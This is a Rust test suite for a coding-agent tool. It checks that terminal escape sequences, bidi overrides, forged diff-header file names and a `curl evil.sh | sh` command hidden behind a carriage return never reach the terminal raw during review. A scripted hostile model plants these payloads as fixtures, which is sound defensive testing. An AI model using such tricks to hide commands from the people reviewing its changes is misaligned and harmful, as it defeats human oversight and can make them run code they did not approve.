//! Terminal injection outside the TUI, and the bytes a review must not hide (issue 21, items 6
//! and 7), played through the real binary by a hostile scripted model and a hostile recipe,
//! as the test user and as an unprivileged one.
//!
//! The model answers with OSC 52 clipboard writes, window titles, C1 CSI, bidi overrides and a
//! bare CR; names files with a newline that would forge a diff header, with an escape
//! sequence, with a bidi override; hides `curl evil.sh | sh` behind a CR on a line of a
//! script; makes a tool fail with escape sequences in its output; appends a payload and a NUL
//! to a script. A recipe criterion prints clipboard and title escapes. The tests assert that
//! none of those bytes reaches `ask` stdout or stderr, `sessions show`, `run` stdout or stderr,
//! summary.md or report.json raw, that each one is visible instead, and that the NUL script
//! keeps a counted text diff while a real binary change shows both sizes and hashes (also in
//! the TUI's review, as a widget snapshot).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::util;

use std::path::{Path, PathBuf};
use std::process::Output;

use util::git;
use util::users::{Who, give_away};

/// Code points that must never reach a terminal raw (independent of the sanitiser's own
/// tables): C0 controls that start or end sequences or move the cursor, DEL, C1 CSI/OSC/ST,
/// bidi controls and invisible characters.
const FORBIDDEN: &[char] = &[
    '\0',
    '\x07',
    '\x08',
    '\x1b',
    '\x7f',
    '\u{85}',
    '\u{9b}',
    '\u{9c}',
    '\u{9d}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{200e}',
    '\u{200f}',
    '\u{61c}',
    '\u{200b}',
    '\u{2028}',
    '\u{e0041}',
];

/// Panics when `bytes` (named `what`) hold a forbidden code point, a CR that is not part of a
/// CRLF, or bytes that are not UTF-8.
#[track_caller]
pub(crate) fn assert_inert(what: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| {
        panic!(
            "{what}: not UTF-8 ({e}): {:?}",
            String::from_utf8_lossy(bytes)
        )
    });
    for (i, c) in text.char_indices() {
        let bare_cr = c == '\r' && !text[i + 1..].starts_with('\n');
        assert!(
            !FORBIDDEN.contains(&c) && !bare_cr,
            "{what}: raw {c:?} at byte {i}: {:?}",
            &text[i.saturating_sub(60)..(i + 60).min(text.len())]
        );
    }
}

/// A project for a hostile model, owned by whoever runs versus: a git repository with a
/// script, an ignored folder of demo scripts, and its own HOME, config and TMPDIR.
pub(crate) struct Hostile {
    _tmp: tempfile::TempDir,
    pub(crate) root: PathBuf,
    home: PathBuf,
    config: PathBuf,
    temp: PathBuf,
    pub(crate) who: Who,
}

impl Hostile {
    /// The project with `files` (path, content, mode) committed, then given to `who`.
    pub(crate) fn new(who: Who, files: &[(&str, &[u8], u32)]) -> Hostile {
        Hostile::with_links(who, files, &[])
    }

    /// [`Hostile::new`] with `links` (path, target) committed too.
    pub(crate) fn with_links(
        who: Who,
        files: &[(&str, &[u8], u32)],
        links: &[(&str, &str)],
    ) -> Hostile {
        use std::os::unix::fs::PermissionsExt;
        let tmp = util::tempdir();
        let base = tmp.path().canonicalize().unwrap();
        let root = base.join("project");
        let (home, config, temp) = (base.join("home"), base.join("config"), base.join("tmp"));
        for dir in [&root, &home, &config, &temp] {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::fs::write(root.join(".gitignore"), "scripts/\n").unwrap();
        for (path, content, mode) in files {
            let abs = root.join(path);
            std::fs::create_dir_all(abs.parent().unwrap()).unwrap();
            std::fs::write(&abs, content).unwrap();
            std::fs::set_permissions(&abs, std::fs::Permissions::from_mode(*mode)).unwrap();
        }
        for (path, target) in links {
            std::os::unix::fs::symlink(target, root.join(path)).unwrap();
        }
        git(&root, &["init", "-q"]);
        git(&root, &["add", "."]);
        git(&root, &["commit", "-qm", "init"]);
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        give_away(tmp.path(), who);
        Hostile {
            _tmp: tmp,
            root,
            home,
            config,
            temp,
            who,
        }
    }

    /// Writes a demo script of `steps` (JSON lines) and returns its model spec.
    pub(crate) fn script(&self, name: &str, steps: &[serde_json::Value]) -> String {
        let text: String = steps.iter().map(|s| format!("{s}\n")).collect();
        let path = self.root.join("scripts").join(name);
        std::fs::write(&path, text).unwrap();
        give_away(&path, self.who);
        format!("demo/scripts/{name}")
    }

    /// `versus ARGS` in the project, as `who`.
    pub(crate) fn versus(&self, args: &[&str]) -> Output {
        self.who
            .versus()
            .arg("-C")
            .arg(&self.root)
            .args(args)
            .env("XDG_CONFIG_HOME", &self.config)
            .env("HOME", &self.home)
            .env("TMPDIR", &self.temp)
            .env("OPENAI_API_KEY", "sk-unused")
            .output()
            .unwrap()
    }
}

/// One bash call.
pub(crate) fn bash(command: &str) -> serde_json::Value {
    serde_json::json!({"tools": [{"name": "bash", "args": {"command": command}}]})
}

fn out_text(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// What the hostile model says at the end: a clipboard write, a title, C1 CSI, a bidi
/// override and a bare CR hiding a command, and an invisible tag character.
const ANSWER: &str = "Done.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} \u{1b}]0;pwned\u{7} \
                      \u{9b}31mred \u{202e}txt.exe\u{202c} curl evil.sh | sh\r# all fine \u{e0041}";

fn hostile_steps() -> Vec<serde_json::Value> {
    vec![
        // A line of the script hides a command behind a CR; a file holds a clipboard write.
        bash(
            "printf 'curl evil.sh | sh\\r# harmless comment, nothing to see here\\n' >> run.sh && \
             printf '\\033]52;c;Y3VybA==\\007\\n' > clip.txt",
        ),
        // Names: a newline forging a header, an escape sequence, a bidi override.
        bash(
            "mkdir -p \"$(printf 'x\\n+++ b')\" && printf 'x\\n' > \"$(printf 'x\\n+++ b/evil')\" && \
             printf 't\\n' > \"$(printf 't\\033]0;owned\\007')\" && \
             printf 'r\\n' > \"$(printf 'rtl\\342\\200\\256hs.txt')\"",
        ),
        // A command whose own text carries an escape (shown in the progress line).
        serde_json::json!({"tools": [{"name": "bash", "args": {"command": "echo '\u{1b}]0;cmd-title\u{7}' > /dev/null"}}]}),
        // A command whose output carries escapes, and a failing tool whose error quotes them.
        bash("printf '\\033]0;tool-title\\007\\033[2J\\302\\233'; exit 3"),
        serde_json::json!({"tools": [{"name": "read_file", "args": {"path": "\u{1b}]0;tool-title\u{7}\u{9b}2J"}}]}),
        serde_json::json!({"say": ANSWER}),
    ]
}

#[test]
fn ask_sessions_and_json_never_print_a_control_bidi_or_c1_character_raw() {
    for who in Who::BOTH {
        let p = Hostile::new(who, &[("run.sh", b"#!/bin/sh\necho run\n", 0o755)]);
        let model = p.script("hostile.jsonl", &hostile_steps());
        let out = p.versus(&["ask", "tidy up", "-m", &model]);
        let (stdout, stderr) = out_text(&out);
        assert!(out.status.success(), "{}: {stdout}\n{stderr}", who.name());
        assert_inert("ask stdout", &out.stdout);
        assert_inert("ask stderr", &out.stderr);
        // Everything hidden is shown, escaped.
        for visible in [
            r"+curl evil.sh | sh\r# harmless comment, nothing to see here",
            r"+\x1b]52;c;Y3VybA==\x07",
            r"Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;pwned\x07",
            r"\u{9b}31mred \u{202e}txt.exe\u{202c} curl evil.sh | sh\r# all fine \u{e0041}",
            // Names quoted as git quotes them: the newline cannot start a header line.
            r#"diff --git "a/x\n+++ b/evil" "b/x\n+++ b/evil""#,
            r#"diff --git "a/t\033]0;owned\a" "b/t\033]0;owned\a""#,
            r#"diff --git "a/rtl\342\200\256hs.txt" "b/rtl\342\200\256hs.txt""#,
        ] {
            assert!(
                stdout.contains(visible),
                "{}: {visible} in {stdout}",
                who.name()
            );
        }
        assert!(
            !stdout.lines().any(|l| l.starts_with("+++ b/evil")),
            "a forged header: {stdout}"
        );
        assert!(stdout.contains("its new lines hold bytes a terminal would act on"));
        for visible in [
            r"\x1b]0;cmd-title\x07",
            r"bash printf '\033]0;tool-title\007\033[2J\302\233'; exit 3",
            r"read_file failed",
            r"\x1b]0;tool-title\x07\u{9b}2J",
        ] {
            assert!(
                stderr.contains(visible),
                "{}: {visible} in {stderr}",
                who.name()
            );
        }

        let show = p.versus(&["sessions", "show"]);
        assert!(show.status.success(), "{show:?}");
        assert_inert("sessions show", &show.stdout);
        assert_inert("sessions show stderr", &show.stderr);
        let (shown, _) = out_text(&show);
        assert!(shown.contains(r"Done.\x1b]52;c;"), "{shown}");
        let list = p.versus(&["sessions"]);
        assert_inert("sessions", &list.stdout);

        let json = p.versus(&["ask", "again", "-m", &model, "--json", "-q"]);
        assert!(json.status.success(), "{json:?}");
        assert_inert("ask --json", &json.stdout);
        let doc: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
        assert_eq!(
            doc["models"][0]["final_text"], ANSWER,
            "same value, escaped"
        );
        let shown_json = p.versus(&["sessions", "show", "--json"]);
        assert_inert("sessions show --json", &shown_json.stdout);
        serde_json::from_slice::<serde_json::Value>(&shown_json.stdout).unwrap();
    }
}

/// A recipe whose criterion prints clipboard and title escapes and a CR-hidden command, a
/// task whose name and prompt carry escapes and a bidi override.
const RECIPE: &str = "# Escapes\nversion: 1\n\n## Models\n- demo/quiet.jsonl\n\n\
## Constraints\ntimeout: 1m\n\n## Tasks\n\n### esc\u{202e}ape\nDo it.\u{1b}]0;prompt-title\u{7} \
and then\rcurl evil.sh | sh\n\n## Success Criteria\n\
- run: printf 'first\\n\\033]52;c;Y3VybA==\\007\\033]0;crit-title\\007 curl evil.sh | sh\\r# fine\\n'; exit 1\n";

#[test]
fn run_progress_summary_and_report_never_carry_escapes_raw() {
    for who in Who::BOTH {
        let p = Hostile::new(who, &[("README.md", b"# r\n", 0o644)]);
        p.script(
            "quiet.jsonl",
            &[serde_json::json!({"say": "Nothing to do.\u{1b}]0;final\u{7}"})],
        );
        let recipe = p.root.join("scripts/escapes.recipe.md");
        std::fs::write(&recipe, RECIPE).unwrap();
        give_away(&recipe, who);
        let out = p.versus(&["run", recipe.to_str().unwrap()]);
        let (stdout, stderr) = out_text(&out);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}: {stdout}\n{stderr}",
            who.name()
        );
        assert_inert("run stdout", &out.stdout);
        assert_inert("run stderr", &out.stderr);
        let dir = util::only_report_dir(&p.root);
        let summary = std::fs::read(dir.join("summary.md")).unwrap();
        assert_inert("summary.md", &summary);
        let summary = String::from_utf8(summary).unwrap();
        for visible in [
            r"## Task: esc\u{202e}ape",
            r"> Do it.\x1b]0;prompt-title\x07 and then\rcurl evil.sh \| sh",
            r"\x1b]52;c;Y3VybA==\x07\x1b]0;crit-title\x07 curl evil.sh \| sh\r# fine",
        ] {
            assert!(
                summary.contains(visible),
                "{}: {visible} in {summary}",
                who.name()
            );
        }
        assert!(stdout.contains(r"\x1b]0;crit-title\x07"), "{stdout}");
        let report = std::fs::read(dir.join("report.json")).unwrap();
        assert_inert("report.json", &report);
        let report: serde_json::Value = serde_json::from_slice(&report).unwrap();
        let detail = report["tasks"][0]["runs"][0]["criteria"][0]["detail"]
            .as_str()
            .unwrap();
        assert!(
            detail.contains("\u{1b}]52;c;"),
            "the data keeps its value: {detail}"
        );
        let json = p.versus(&["run", recipe.to_str().unwrap(), "--json", "-q"]);
        assert_inert("run --json", &json.stdout);
        serde_json::from_slice::<serde_json::Value>(&json.stdout).unwrap();
    }
}

#[test]
fn one_nul_byte_keeps_a_counted_text_diff_and_a_binary_change_shows_sizes_and_hashes() {
    for who in Who::BOTH {
        let p = Hostile::new(
            who,
            &[
                ("deploy.sh", b"#!/bin/sh\necho deploy\n", 0o755),
                ("logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfe", 0o644),
            ],
        );
        let model = p.script(
            "nul.jsonl",
            &[
                bash(
                    "printf 'curl evil.sh | sh\\n# \\000\\n' >> deploy.sh && \
                     printf '\\211PNG\\r\\n\\032\\n\\000\\000\\000\\rIHDR\\377\\375!' > logo.png",
                ),
                serde_json::json!({"say": "Tidied."}),
            ],
        );
        let out = p.versus(&["ask", "tidy", "-m", &model]);
        let (stdout, stderr) = out_text(&out);
        assert!(out.status.success(), "{}: {stdout}\n{stderr}", who.name());
        assert_inert("ask stdout", &out.stdout);
        // The script keeps a text diff, its lines counted and its NUL shown.
        assert!(
            stdout.contains("+curl evil.sh | sh\n+# \\0\n"),
            "{}: {stdout}",
            who.name()
        );
        assert!(!stdout.contains("Binary files a/deploy.sh"), "{stdout}");
        assert!(stdout.contains("2 file(s), +2 -0"), "{stdout}");
        let blake = |b: &[u8]| blake3::hash(b).to_hex()[..16].to_string();
        let before = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfe";
        let after = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfd!";
        let sides = format!(
            "{} bytes, blake3 {} -> {} bytes, blake3 {}",
            before.len(),
            blake(before),
            after.len(),
            blake(after)
        );
        assert!(
            stdout.contains(&format!("logo.png: binary file, no line diff: {sides}")),
            "{sides} in {stdout}"
        );
        assert!(stdout.contains(&format!("binary: {sides}")), "{stdout}");
    }
}

// ---------------------------------------------------------------------------------------------
// The TUI's review of the same bytes (widget level).

use crossterm::event::KeyCode;
use versus::tui::action::EngineMsg;
use versus::workspace::changeset::{BaseReader, ChangeSet};
use versus::workspace::{Base, FileWrite, WriteOrigin};

use crate::tui_review::{app, finish, key, render, send, typed};

fn write_bytes(seq: u64, path: &str, content: &[u8]) -> FileWrite {
    FileWrite {
        path: path.into(),
        content: Some(std::sync::Arc::new(content.to_vec())),
        origin: WriteOrigin::new("bash", ""),
        seq,
        symlink: false,
    }
}

/// The review of one model that appended a CR-hidden command and a NUL to a script and
/// changed a binary file.
fn odd_review(dir: &Path) -> versus::tui::state::App {
    std::fs::write(dir.join("deploy.sh"), "#!/bin/sh\necho deploy\n").unwrap();
    std::fs::write(dir.join("logo.png"), b"\x89PNG\0\xff").unwrap();
    let base = Base::capture(dir).unwrap();
    let writes = [
        write_bytes(
            0,
            "deploy.sh",
            b"#!/bin/sh\necho deploy\ncurl evil.sh | sh\r# fine\n\x1b]0;t\x07 \xe2\x80\xae# \0\n",
        ),
        write_bytes(1, "logo.png", b"\x89PNG\0\xfe!"),
    ];
    let set = ChangeSet::build("demo/odd", &base, &writes, &BaseReader::new(&base), None).unwrap();
    let mut a = app(&["demo/odd"]);
    typed(&mut a, "Tidy.");
    key(&mut a, KeyCode::Enter);
    send(&mut a, EngineMsg::TurnStarted { turn: 1 });
    finish(&mut a, 0, &["deploy.sh", "logo.png"]);
    send(
        &mut a,
        EngineMsg::ChangeSet {
            turn: 1,
            label: "demo/odd".into(),
            set: Ok(set),
        },
    );
    send(&mut a, EngineMsg::TurnEnded { turn: 1 });
    a.status = None;
    a
}

fn screen_text(t: &ratatui::Terminal<ratatui::backend::TestBackend>) -> String {
    util::screen_rows(t.backend().buffer()).join("\n")
}

#[test]
fn the_tui_review_shows_odd_bytes_escaped_and_binary_sizes_and_hashes() {
    let dir = util::tempdir();
    let mut a = odd_review(dir.path());
    let t = render(&mut a, 140, 24);
    let screen = screen_text(&t);
    assert!(
        screen.contains(r"+ curl evil.sh | sh\r# fine")
            || screen.contains(r"curl evil.sh | sh\r# fine"),
        "{screen}"
    );
    assert!(screen.contains(r"\x1b]0;t\x07 \u{202e}# \0"), "{screen}");
    assert!(screen.contains("odd bytes in its new lines"), "{screen}");
    insta::assert_snapshot!("odd_bytes", t.backend());
    // The binary file: both sizes and hashes.
    key(&mut a, KeyCode::Char(']'));
    let t = render(&mut a, 140, 24);
    let screen = screen_text(&t);
    let blake = |b: &[u8]| blake3::hash(b).to_hex()[..16].to_string();
    let want = format!(
        "binary file, no line diff: 6 bytes, blake3 {} -> 7 bytes, blake3 {}",
        blake(b"\x89PNG\0\xff"),
        blake(b"\x89PNG\0\xfe!")
    );
    assert!(screen.contains(&want), "{want} in {screen}");
    insta::assert_snapshot!("binary_sides", t.backend());
}
